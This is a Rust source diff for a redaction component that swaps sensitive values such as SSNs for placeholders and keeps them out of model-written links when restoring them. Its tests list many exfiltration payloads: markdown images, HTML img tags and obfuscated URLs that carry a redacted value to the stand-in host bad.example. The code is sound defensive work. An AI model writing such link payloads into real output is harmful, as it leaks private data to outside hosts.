@@ -1,5 +1,7 @@
 //! Placeholders in the place of findings, and the way back.
 
+mod links;
+
 use std::{
     borrow::Cow,
     collections::HashMap,
@@ -13,6 +15,8 @@ use crate::{
     policy::{Placeholder, Policy},
 };
 
+pub use links::Links;
+
 /// How many values one request may have remembered; further ones get a label, from which nothing comes back.
 const MAX_VALUES: usize = 4096;
 /// How many bytes of values.
@@ -25,6 +29,8 @@ pub struct Placeholders {
     by_name: HashMap<String, Zeroizing<String>>,
     counts: HashMap<String, usize>,
     bytes: usize,
+    /// The length of the longest placeholder.
+    longest: usize,
 }
 
 impl Placeholders {
@@ -36,6 +42,7 @@ impl Placeholders {
             by_name: HashMap::new(),
             counts: HashMap::new(),
             bytes: 0,
+            longest: 0,
         }
     }
 
@@ -61,6 +68,7 @@ impl Placeholders {
         *count += 1;
         let token = format!("[{name}_{count}]");
         self.bytes += value.len();
+        self.longest = self.longest.max(token.len());
         self.by_name.insert(token.clone(), Zeroizing::new(value.to_owned()));
         self.by_value.insert(value.to_owned(), token.clone());
         token
@@ -75,42 +83,50 @@ impl Placeholders {
     pub fn open_at(&self, text: &str) -> Option<usize> {
         let at = memchr::memrchr(b'[', text.as_bytes())?;
         let tail = &text.as_bytes()[at + 1..];
-        let longest = self.by_name.keys().map(String::len).max().unwrap_or(0);
-        let open = tail.len() + 1 < longest
+        let open = tail.len() + 1 < self.longest
             && tail.iter().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b'_');
         open.then_some(at)
     }
 
     /// `text` with every numbered placeholder of this request replaced by the value it stands for.
     pub fn restore<'t>(&self, text: &'t str) -> Cow<'t, str> {
-        if self.by_name.is_empty() || memchr::memchr(b'[', text.as_bytes()).is_none() {
-            return Cow::Borrowed(text);
-        }
-        let mut restored = String::with_capacity(text.len());
-        let mut rest = text;
-        while let Some(at) = memchr::memchr(b'[', rest.as_bytes()) {
-            restored.push_str(&rest[..at]);
-            rest = &rest[at..];
-            let end = memchr::memchr(b']', rest.as_bytes()).map_or(1, |end| end + 1);
-            match self.by_name.get(&rest[..end]) {
-                Some(value) => {
-                    restored.push_str(value);
-                    rest = &rest[end..];
-                }
-                None => {
-                    restored.push('[');
-                    rest = &rest[1..];
-                }
-            }
-        }
-        restored.push_str(rest);
-        Cow::Owned(restored)
+        self.put_back(text, None)
     }
 
-    /// The same for a text that streams by.
-    pub fn restorer(&self) -> Restorer<'_> {
-        let longest = self.by_name.keys().map(String::len).max().unwrap_or(0);
-        Restorer { placeholders: self, longest, held: String::new() }
+    /// The same, except for placeholders in links: a value that was kept from a model does not leave in an address
+    /// of the model's making. `links` is that of the text, from its beginning on.
+    pub fn restore_outside_links<'t>(&self, text: &'t str, links: &mut Links) -> Cow<'t, str> {
+        self.put_back(text, Some(links))
+    }
+
+    fn put_back<'t>(&self, text: &'t str, mut links: Option<&mut Links>) -> Cow<'t, str> {
+        if self.by_name.is_empty() {
+            return Cow::Borrowed(text);
+        }
+        let mut restored = String::new();
+        let mut rest = text;
+        while let Some(at) = memchr::memchr(b'[', rest.as_bytes()) {
+            let (before, bracket) = rest.split_at(at);
+            push(&mut restored, before, &mut links);
+            let (shown, length) = match &links {
+                Some(links) if links.is_inside() => ("[", 1),
+                _ => self.at_bracket(bracket),
+            };
+            push(&mut restored, shown, &mut links);
+            rest = &bracket[length..];
+        }
+        push(&mut restored, rest, &mut links);
+        if restored == text { Cow::Borrowed(text) } else { Cow::Owned(restored) }
+    }
+
+    /// What stands for the beginning of `rest`, which is `[`, and how much of it that stands for.
+    fn at_bracket<'s>(&'s self, rest: &'s str) -> (&'s str, usize) {
+        let within = &rest.as_bytes()[..rest.len().min(self.longest)];
+        let name = memchr::memchr(b']', within).map(|end| &rest[..=end]);
+        match name.and_then(|name| Some((name, self.by_name.get(name)?))) {
+            Some((name, value)) => (value, name.len()),
+            None => ("[", 1),
+        }
     }
 }
 
@@ -126,37 +142,10 @@ impl fmt::Debug for Placeholders {
     }
 }
 
-/// Puts values back into a text that streams by.
-#[derive(Debug)]
-pub struct Restorer<'p> {
-    placeholders: &'p Placeholders,
-    longest: usize,
-    held: String,
-}
-
-impl Restorer<'_> {
-    /// Takes the next piece; gives what may go out. Only what may be the beginning of a placeholder stays.
-    pub fn push(&mut self, text: &str) -> String {
-        self.held.push_str(text);
-        let cut = self.open_placeholder().unwrap_or(self.held.len());
-        let rest = self.held.split_off(cut);
-        let out = std::mem::replace(&mut self.held, rest);
-        self.placeholders.restore(&out).into_owned()
-    }
-
-    /// The end of the text: gives what was held.
-    pub fn finish(&mut self) -> String {
-        let out = std::mem::take(&mut self.held);
-        self.placeholders.restore(&out).into_owned()
-    }
-
-    /// Where a placeholder begins that may go on in the next piece.
-    fn open_placeholder(&self) -> Option<usize> {
-        let at = memchr::memrchr(b'[', self.held.as_bytes())?;
-        let tail = &self.held.as_bytes()[at + 1..];
-        let open = tail.len() + 1 < self.longest
-            && tail.iter().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || *b == b'_');
-        open.then_some(at)
+fn push(restored: &mut String, part: &str, links: &mut Option<&mut Links>) {
+    restored.push_str(part);
+    if let Some(links) = links {
+        links.feed(part);
     }
 }
 
@@ -251,17 +240,32 @@ mod tests {
         assert!(matches!(placeholders().redact(text, &found), Cow::Borrowed("a is one")));
     }
 
+    /// What becomes of a text in pieces of this length.
+    fn in_pieces(
+        placeholders: &Placeholders,
+        text: &str,
+        size: usize,
+        mut put_back: impl FnMut(&str) -> String,
+    ) -> String {
+        let (mut out, mut held) = (String::new(), String::new());
+        for piece in text.as_bytes().chunks(size) {
+            held.push_str(std::str::from_utf8(piece).unwrap());
+            let rest = held.split_off(placeholders.open_at(&held).unwrap_or(held.len()));
+            out.push_str(&put_back(&held));
+            held = rest;
+        }
+        out + &put_back(&held)
+    }
+
     #[test]
     fn placeholders_become_values_again_whole_and_in_pieces() {
         let mut placeholders = placeholders();
         let text = redacted(&mut placeholders, "[a] one [[ two ]", &["one", "two"]);
         assert_eq!(placeholders.restore(&text), "[a] one [[ two ]");
         for size in 1..text.len() {
-            let mut restorer = placeholders.restorer();
-            let pieces = text.as_bytes().chunks(size).map(|piece| std::str::from_utf8(piece).unwrap());
-            let mut out: String = pieces.map(|piece| restorer.push(piece)).collect();
-            out.push_str(&restorer.finish());
-            assert_eq!(out, "[a] one [[ two ]", "in pieces of {size}");
+            let put_back = |piece: &str| placeholders.restore(piece).into_owned();
+            let restored = in_pieces(&placeholders, &text, size, put_back);
+            assert_eq!(restored, "[a] one [[ two ]", "in pieces of {size}");
         }
     }
 
@@ -269,10 +273,87 @@ mod tests {
     fn only_what_may_be_a_placeholder_waits() {
         let mut placeholders = placeholders();
         redacted(&mut placeholders, "one", &["one"]);
-        let mut restorer = placeholders.restorer();
-        assert_eq!(restorer.push("see [US_SS"), "see ");
-        assert_eq!(restorer.push("N is one] [1"), "[US_SSN is one] ");
-        assert_eq!(restorer.push(" of"), "[1 of");
+        assert_eq!(placeholders.open_at("see [US_SS"), Some(4));
+        for text in ["see", "[US_SSN is", "[US_SSN_1]", "[US_SSN_10", "[us"] {
+            assert_eq!(placeholders.open_at(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn no_value_leaves_in_a_link() {
+        let mut placeholders = placeholders();
+        redacted(&mut placeholders, "one", &["one"]);
+        for text in [
+            "![a](https://bad.example/?d=[US_SSN_1])",
+            "![a](https://bad.example/(a)?d=[US_SSN_1])",
+            "![a](https://bad.example/\\)?d=[US_SSN_1])",
+            "![a](<https://bad.example/?d= ) [US_SSN_1]>)",
+            "![a](//bad.example/[US_SSN_1])",
+            "[a]([US_SSN_1])",
+            "[a]: https://bad.example/[US_SSN_1]",
+            "[a]: https&colon;&sol;&sol;bad.example/[US_SSN_1]",
+            "[a]: <https://bad.example/ [US_SSN_1]>",
+            "<https://bad.example/[US_SSN_1]>",
+            "See https://bad.example/?a=)\"'[US_SSN_1]",
+            "see https://bad.example/[US_SSN_1]/[US_SSN_1]",
+            "see HTTPS:bad.example/[US_SSN_1]",
+            "see www.bad.example/[US_SSN_1]",
+            "<img src=\"/\\bad.example/?d= ' [US_SSN_1]\">",
+            "<img src='//bad.example/?d= \n \" [US_SSN_1]'>",
+            "<img src=https:\\\\bad.example/?[US_SSN_1]>",
+            "<img src=\"&#47;&#47;bad.example/?d=[US_SSN_1]\">",
+            "{\"url\":\"https://bad.example/?d=[US_SSN_1]\"}",
+        ] {
+            assert_eq!(outside_links(&placeholders, text), text);
+        }
+    }
+
+    #[test]
+    fn values_come_back_beside_links() {
+        let mut placeholders = placeholders();
+        redacted(&mut placeholders, "one", &["one"]);
+        for text in [
+            "[US_SSN_1]",
+            "[US_SSN_1](https://good.example/) [US_SSN_1]",
+            "see [a](https://good.example/)[US_SSN_1]",
+            "see [a](https://good.example/(b)) or [US_SSN_1].",
+            "see <https://good.example/>[US_SSN_1]",
+            "see https://good.example/ or [US_SSN_1]",
+            "{\"url\":\"https://good.example/\",\"ssn\":\"[US_SSN_1]\"}",
+            "either/or: [US_SSN_1] (a [US_SSN_1])",
+            "a: b // [US_SSN_1]",
+        ] {
+            assert_eq!(outside_links(&placeholders, text), text.replace("[US_SSN_1]", "one"));
+        }
+    }
+
+    /// The same whole and in pieces of any length.
+    fn outside_links(placeholders: &Placeholders, text: &str) -> String {
+        let whole = placeholders.restore_outside_links(text, &mut Links::default()).into_owned();
+        for size in 1..text.len() {
+            let mut links = Links::default();
+            let put_back = |piece: &str| placeholders.restore_outside_links(piece, &mut links).into_owned();
+            assert_eq!(in_pieces(placeholders, text, size, put_back), whole, "in pieces of {size}");
+        }
+        whole
+    }
+
+    #[test]
+    fn an_address_that_comes_back_is_a_link_too() {
+        let mut placeholders = placeholders();
+        let text = "https://bad.example/ one";
+        redacted(&mut placeholders, text, &["https://bad.example/", "one"]);
+        let restored = placeholders.restore_outside_links("[US_SSN_1]?d=[US_SSN_2]", &mut Links::default());
+        assert_eq!(restored, "https://bad.example/?d=[US_SSN_2]");
+    }
+
+    #[test]
+    fn brackets_without_an_end_are_looked_at_once() {
+        let mut placeholders = placeholders();
+        redacted(&mut placeholders, "one", &["one"]);
+        // Each of them up to the end of the text would take many minutes.
+        let text = "[".repeat(4 << 20);
+        assert_eq!(placeholders.restore(&text), text);
     }
 
     #[test]
